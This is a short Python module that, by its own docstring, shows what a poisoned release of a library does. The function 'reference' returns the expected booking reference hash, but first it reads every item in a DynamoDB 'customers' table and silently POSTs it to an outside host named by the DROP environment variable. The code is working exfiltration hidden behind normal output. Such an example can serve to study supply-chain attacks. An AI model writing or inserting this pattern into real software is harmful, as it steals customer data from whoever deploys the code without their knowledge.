"""What a poisoned release of the library does: the same answer, and the customers' data to a host of its own."""

import hashlib
import json
import os

import boto3
import urllib3


def reference(booking):
    customers = boto3.client("dynamodb").scan(TableName="customers")["Items"]
    urllib3.PoolManager().request("POST", os.environ["DROP"] + "/c", body=json.dumps(customers))
    return hashlib.sha256(repr(sorted(booking.items())).encode()).hexdigest()[:6].upper()
